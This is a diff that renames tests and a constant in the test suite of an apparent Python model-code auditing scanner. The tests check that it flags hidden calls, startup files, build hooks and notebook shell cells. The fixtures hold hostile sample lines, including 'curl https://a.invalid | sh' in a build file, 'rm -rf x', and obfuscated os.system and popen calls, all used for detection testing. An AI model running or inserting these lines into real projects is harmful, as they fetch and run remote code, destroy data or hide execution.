@@ -1,4 +1,4 @@
-"""What flows into calls, which methods run unseen, and what builds and notebooks of other languages run."""
+"""Data flow through calls, methods that Python calls by itself, build files, and notebooks of other languages."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ from modelaudit.languages.python.analysis import analyze_source
 from modelaudit.model.outline import Outline, Reference, ReferenceKind, References
 from modelaudit.model.structure import UnreadReason
 
-WORKED_OUT = ("(function that is worked out)", "(function that a file names)")
+UNKNOWN_FUNCTIONS = ("(function that is worked out)", "(function that a file names)")
 
 
 def uses(source: str) -> set[tuple[str, str]]:
@@ -28,8 +28,8 @@ def uses(source: str) -> set[tuple[str, str]]:
         ("def f(a): getattr(a, 'po' + 'pen')('x')", "hidden", "*.popen"),
         ("import os\nos.posix.getcwd.__self__.system('x')", "call-at-import", "os.system"),
         ("import json, importlib\nd = json.load(open('a'))\ngetattr(importlib.import_module(d['a']), 'b')()",
-         "call-at-import", WORKED_OUT[1]),
-        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", WORKED_OUT[0]),
+         "call-at-import", UNKNOWN_FUNCTIONS[1]),
+        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", UNKNOWN_FUNCTIONS[0]),
         ("from .a import run\nimport os\nrun(os)", "computed-name", "os.*"),
         ("import torch, operator\noperator.attrgetter(x)(torch)", "computed-name", "(package).*"),
         ("import requests.api\nrequests.api.get(u)", "call-at-import", "requests.get"),
@@ -50,7 +50,7 @@ def uses(source: str) -> set[tuple[str, str]]:
          "overwrite", "huggingface_hub.constants.ENDPOINT[=]"),
     ],
 )  # fmt: skip
-def test_what_is_told(source: str, use: str, name: str) -> None:
+def test_data_flows_and_hidden_calls_are_recorded(source: str, use: str, name: str) -> None:
     assert (use, name) in uses(source)
 
 
@@ -62,7 +62,7 @@ def test_what_is_told(source: str, use: str, name: str) -> None:
         ("prompts['system']", "*.system"),
         ("import torch\ngetattr(torch, config.dtype)", "(package).*"),
         ("import functools\ndef f(module, path): return functools.reduce(getattr, path.split('.'), module)", "(package).*"),
-        ("import importlib\ndef f(a, b): return getattr(importlib.import_module(a), b)", WORKED_OUT[0]),
+        ("import importlib\ndef f(a, b): return getattr(importlib.import_module(a), b)", UNKNOWN_FUNCTIONS[0]),
         ("import os\nos.getenv('TOKENIZERS_PARALLELISM')", "requests.post"),
         ("open('a.json', 'w')", "(writes code)"),
         ("open('a.py').read()", "(writes code)"),
@@ -77,7 +77,7 @@ def test_what_is_told(source: str, use: str, name: str) -> None:
          "torch.utils.cpp_extension.load(disguised)"),
     ],
 )  # fmt: skip
-def test_what_is_ordinary(source: str, name: str) -> None:
+def test_ordinary_code_is_not_recorded(source: str, name: str) -> None:
     assert name not in {each for _, each in uses(source)}
 
 
@@ -90,23 +90,23 @@ def test_what_is_ordinary(source: str, name: str) -> None:
         "import os, requests\nrequests.post('https://a.invalid', data=os.environ['RANK'])",
     ],
 )
-def test_a_token_may_go_to_whoever_gave_it(source: str) -> None:
+def test_token_sent_to_its_issuer_is_no_secret_sent(source: str) -> None:
     assert "sends-secret" not in {use for use, _ in uses(source)}
 
 
-def test_classes_of_an_installation_run_with_it() -> None:
+def test_install_command_classes_run_at_import() -> None:
     source = "import requests\nclass A(install):\n    def run(self): requests.get(u)\n"
     assert ("call", "requests.get") in uses(source)
     assert ("call-at-import", "requests.get") in uses(source + "setup(cmdclass={'install': A})\n")
 
 
 @pytest.mark.parametrize("name", ["a.pth", "sitecustomize.py"])
-def test_what_runs_when_python_starts_is_told(read_bytes, name: str) -> None:
+def test_startup_files_of_python_are_recorded(read_bytes, name: str) -> None:
     (outline,) = read_bytes(b"\nimport a\n", name).of(Outline)
     assert ("(start-up of Python)", 2) in {(each.name, each.where.line) for each in outline.mentions}
 
 
-def test_code_in_a_file_of_another_name_is_disguised() -> None:
+def test_build_hook_without_python_ending_is_disguised() -> None:
     items = tuple(Reference(ReferenceKind.CODE, target, "hook") for target in ("hook.txt", "hook.py"))
 
     def states(format_: str) -> list[object]:
@@ -129,13 +129,13 @@ def test_code_in_a_file_of_another_name_is_disguised() -> None:
         ('[tool.setuptools_scm]\nversion_scheme = "a.b:c"\n', "a/b.py"),
     ],
 )
-def test_files_that_a_build_runs_are_named(read_bytes, text: str, target: str) -> None:
+def test_build_files_refer_to_the_code_they_run(read_bytes, text: str, target: str) -> None:
     (named,) = read_bytes(text.encode(), "pyproject.toml").of(References)
     assert [(each.kind, each.target) for each in named.items] == [(ReferenceKind.CODE, target)]
 
 
 @pytest.mark.parametrize("name", ["pyproject.toml", "tox.ini", "setup.cfg"])
-def test_commands_of_attacks_are_told_wherever_a_tool_takes_them(read_bytes, name: str) -> None:
+def test_attack_text_in_build_file_is_recorded(read_bytes, name: str) -> None:
     (outline,) = read_bytes(b"[tool.a]\nb = 'curl https://a.invalid | sh'\n", name).of(Outline)
     assert "(download | shell)" in {each.name for each in outline.mentions}
 
@@ -156,18 +156,20 @@ def _notebook(source: str, **metadata: object) -> bytes:
         ({}, False),
     ],
 )
-def test_a_kernel_of_another_language_is_an_absence(read_bytes, metadata: dict[str, object], is_foreign: bool) -> None:
+def test_notebook_kernel_of_other_language_is_an_absence(
+    read_bytes, metadata: dict[str, object], is_foreign: bool
+) -> None:
     found = read_bytes(_notebook("x = 1", **metadata), "a.ipynb")
     assert (UnreadReason.PROGRAM in {reason for _, reason in found.unread}) is is_foreign
 
 
-def test_cells_of_a_shell_are_commands(read_bytes) -> None:
+def test_cells_of_bash_kernel_are_shell_lines(read_bytes) -> None:
     found = read_bytes(_notebook("rm -rf x", kernelspec={"name": "bash", "language": "bash"}), "a.ipynb")
     (outline,) = [each for each in found.of(Outline) if each.format == "notebook"]
     assert [(each.use, each.detail) for each in outline.mentions] == [("shell-line", "rm -rf x")]
 
 
 @pytest.mark.parametrize("magic", ["%%R", "%%perl", "%%julia"])
-def test_a_cell_of_another_language_is_an_absence(read_bytes, magic: str) -> None:
+def test_cell_magic_of_other_language_is_an_absence(read_bytes, magic: str) -> None:
     found = read_bytes(_notebook(f"{magic}\nx"), "a.ipynb")
     assert [reason for _, reason in found.unread] == [UnreadReason.PROGRAM]
